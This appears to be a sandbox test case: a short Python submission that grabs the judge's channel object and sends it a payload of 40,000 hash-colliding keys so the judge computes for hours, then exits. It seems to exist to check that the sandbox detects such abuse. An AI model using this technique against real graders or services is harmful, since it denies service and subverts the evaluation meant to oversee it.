# expect: SV
# alone: SV
# real: no (it speaks for itself alone, and would gain no more without)
# tries: a dict whose keys share one hash, so that the judge computes for hours
import gc
import os

from sandbox.channel import Channel


def channel():
    return next(found for found in gc.get_objects() if type(found) is Channel)


def solve():
    body = b",".join(b"[%d,0]" % (n * (2**61 - 1)) for n in range(40_000))
    channel().send(b'V[{"d":[' + body + b']},0,""]')
    os._exit(0)
